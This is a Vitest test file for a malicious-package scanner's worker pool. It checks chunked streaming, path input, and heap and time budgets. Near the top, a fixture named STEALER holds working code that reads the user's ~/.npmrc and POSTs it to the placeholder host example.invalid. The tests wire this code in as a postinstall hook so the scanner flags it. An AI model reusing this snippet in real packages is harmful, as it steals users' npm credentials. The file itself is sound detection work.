import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { Readable } from 'node:stream';
import { packTree, tempDir } from './support.js';

// The pool scans in worker processes from helper/dist: `npm run build` first.
const { ScanPool } = await import('../../helper/dist/scan/pool.js');
const { scanTarball } = await import('../../helper/dist/scan/index.js');

const STEALER = "const fs = require('fs'); const https = require('https');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nhttps.request({ host: 'example.invalid', method: 'POST' }).end(t);\n";

/** A stream that hands over `bytes` in chunks of `size` (a socket's small reads, a file's large ones). */
function chunked(bytes: Buffer, size: number): Readable {
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts, { objectMode: false });
}

let work: Awaited<ReturnType<typeof tempDir>>;
let smallPath: string;
let small: Buffer;
let large: Buffer;
beforeAll(async () => {
  work = await tempDir();
  smallPath = await packTree(work.dir, 'small', { scripts: { postinstall: 'node steal.js' } }, { 'steal.js': STEALER });
  small = await readFile(smallPath);
  // Incompressible content, so the compressed tarball spans more than one 1 MiB input batch of the worker.
  large = await readFile(await packTree(work.dir, 'large', { scripts: { postinstall: 'node steal.js' } }, { 'steal.js': STEALER, 'blob.bin': randomBytes(1_500_000) }));
});
afterAll(() => work.cleanup());

describe('ScanPool.scan', () => {
  it('reports what scanTarball reports, whatever the size of the chunks the tarball arrives in', async () => {
    const pool = new ScanPool({ concurrency: 2 });
    try {
      expect(large.length).toBeGreaterThan(1024 * 1024);
      for (const tarball of [small, large]) {
        const expected = await scanTarball(Readable.from([tarball]));
        expect(expected.findings.some((f) => f.rule === 'credential-exfil' && f.severity === 'critical')).toBe(true);
        for (const size of [7, 16 * 1024, 64 * 1024, 3 * 1024 * 1024]) {
          expect(await pool.scan(chunked(tarball, size))).toEqual(expected);
        }
      }
    } finally {
      await pool.close();
    }
  });

  it('scans packages one after another on the same worker without mixing their bytes', async () => {
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const reports = await Promise.all([large, small, large].map((t) => pool.scan(chunked(t, 100_000))));
      expect(reports.map((r) => r.bytes)).toEqual([(await scanTarball(Readable.from([large]))).bytes, (await scanTarball(Readable.from([small]))).bytes, (await scanTarball(Readable.from([large]))).bytes]);
      expect(reports[0]).toEqual(reports[2]);
    } finally {
      await pool.close();
    }
  });
});

describe('ScanPool: a tarball by path, and the budgets', () => {
  it('close() waits until its workers have ended, in a process that has nothing else to wait for', async () => {
    const pool = new URL('../../helper/dist/scan/pool.js', import.meta.url).href;
    const script = `const { ScanPool } = await import(${JSON.stringify(pool)}); const p = new ScanPool({ concurrency: 1 }); const r = await p.scan(${JSON.stringify(smallPath)}); await p.close(); console.log('closed', r.files);`;
    const r = await execa(process.execPath, ['--input-type=module', '-e', script], { reject: false, stdin: 'ignore' });
    expect(r.stdout).toBe('closed 3');
    expect(r.exitCode).toBe(0);
  });

  it('reads a tarball from its path in the worker, with the report scanTarball gives', async () => {
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const expected = await scanTarball(smallPath);
      expect(expected.findings.some((f) => f.rule === 'credential-exfil')).toBe(true);
      expect(await pool.scan(smallPath)).toEqual(expected);
    } finally {
      await pool.close();
    }
  });

  it('rejects a path that is no tarball with the InputError scanTarball raises', async () => {
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const missing = join(work.dir, 'missing.tgz');
      await expect(pool.scan(missing)).rejects.toMatchObject({ code: 'FILE_NOT_FOUND', where: { file: missing } });
    } finally {
      await pool.close();
    }
  });

  it('gives a package past the worker heap a scan-budget finding, and scans the next one in a new worker', async () => {
    // The syntax tree of 4 MB of statements (about 180,000 of them, several nodes each) outgrows a 64 MiB heap;
    // the tarball is a few KB.
    const heavy = await packTree(work.dir, 'heavy', { main: 'index.js' }, { 'index.js': 'module.exports.a = 1;\n'.repeat(180_000) });
    const pool = new ScanPool({ concurrency: 1, heapMb: 64 });
    try {
      const over = await pool.scan(heavy);
      expect(over.complete).toBe(false);
      expect(over.findings.map((f) => `${f.rule} ${f.evidence}`)).toEqual(['scan-budget needed more than 64 MiB']);
      expect(await pool.scan(smallPath)).toEqual(await scanTarball(smallPath));
    } finally {
      await pool.close();
    }
  });

  it('gives a package past the time budget a scan-budget finding', async () => {
    const pool = new ScanPool({ concurrency: 1, budgetMs: 1 });
    try {
      const over = await pool.scan(Readable.from([large]));
      expect(over.findings.map((f) => `${f.rule} ${f.evidence}`)).toEqual(['scan-budget took longer than 1 ms']);
    } finally {
      await pool.close();
    }
  });
});
